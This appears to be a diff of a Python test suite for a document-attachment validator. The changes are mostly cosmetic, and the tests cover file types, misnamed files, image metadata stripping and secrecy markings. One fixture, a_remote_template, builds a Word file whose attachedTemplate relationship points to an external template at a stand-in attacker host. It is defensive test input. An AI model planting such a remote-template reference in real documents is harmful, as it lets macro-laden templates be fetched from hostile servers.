@@ -3,12 +3,6 @@ import zipfile
 
 import pytest
 import xlwt
-from django.core.files.uploadedfile import SimpleUploadedFile
-from django.db import transaction
-from django.utils import timezone, translation
-from pypdf import PdfReader, PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
-
 from a_document import (
     a_compound,
     a_docx,
@@ -21,6 +15,12 @@ from a_document import (
     exif,
     with_part,
 )
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import transaction
+from django.utils import timezone, translation
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
 from qingfeng.documents import attachments, packages, storage
 from qingfeng.documents.attachments import discard_orphans, erase, keep, opened, response_for
 from qingfeng.documents.body import Paragraph
@@ -69,7 +69,7 @@ def left_behind(folder):
 GOOD = {
     "督办单.pdf": (a_pdf, "pdf"),
     "报告.docx": (lambda: a_docx("办理情况报告"), "docx"),
-    "报告.wps": (lambda: a_word_file(), "doc"),
+    "报告.wps": (a_word_file, "doc"),
     "明细.xlsx": (lambda: an_xlsx(["日期", "金额"]), "xlsx"),
     "明细.xls": (an_old_workbook, "xls"),
     "明细.et": (an_old_workbook, "xls"),
@@ -80,7 +80,7 @@ GOOD = {
     "照片.webp": (lambda: a_picture("WEBP"), "webp"),
     "扫描.tif": (lambda: a_picture("TIFF"), "tiff"),
     "说明.txt": (lambda: "说明".encode("gb18030"), "txt"),
-    "明细.csv": (lambda: "日期,金额\n3月1日,612".encode(), "csv"),
+    "明细.csv": ("日期,金额\n3月1日,612".encode, "csv"),
     "材料.zip": (lambda: a_zip({"甲/说明.txt": "说明", "照片.png": a_picture()}), "zip"),
     "谈话.mp3": (lambda: b"\xff\xfb\x90\x00" + bytes(400), "mp3"),
     "现场.mp4": (lambda: box(b"ftyp", b"isom", bytes(4)) + box(b"mdat", b"x"), "mp4"),
@@ -131,7 +131,8 @@ def test_what_is_not_on_the_list_or_not_what_its_name_says_is_refused(name, atta
 
 def test_a_refusal_says_what_is_wrong_and_what_to_do():
     assert str(refused(a_picture(), "扫描.pdf")) == (
-        "“扫描.pdf” holds a PNG picture; its name says something else. Name it with .png or choose the right file."
+        "“扫描.pdf” holds a PNG picture; its name says something else. "
+        "Name it with .png or choose the right file."
     )
 
 
@@ -141,7 +142,7 @@ def test_a_deceiving_name_is_cleaned_before_it_is_judged():
 
 
 def test_a_picture_is_kept_without_where_it_was_taken():
-    """rights 21: no original image metadata is stored."""
+    """Rights 21: no original image metadata is stored."""
     kept = keep(a_picture("JPEG", exif=exif()), "照片.jpg")
 
     with opened(kept) as held:
@@ -156,8 +157,8 @@ def test_the_same_content_is_stored_once_whatever_its_names(attachments_folder):
 
 
 SECRET = {
-    "机密★1年 方案.txt": lambda: "正文".encode(),
-    "方案.txt": lambda: "机密★1年\n正文".encode(),
+    "机密★1年 方案.txt": "正文".encode,
+    "方案.txt": "机密★1年\n正文".encode,
     "名单.csv": lambda: "密级：秘密\n甲,乙".encode("gb18030"),
     "方案.docx": lambda: a_docx("份号 000001", "秘密★10年", "正文"),
     "名单.xlsx": lambda: an_xlsx(["绝密★"], ["甲"]),
@@ -252,7 +253,8 @@ def a_locked_pdf(password):
 def a_remote_template():
     rels = (
         '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+        "</Relationships>"
     )
     return with_part(a_docx("甲"), "word/_rels/settings.xml.rels", rels)
 
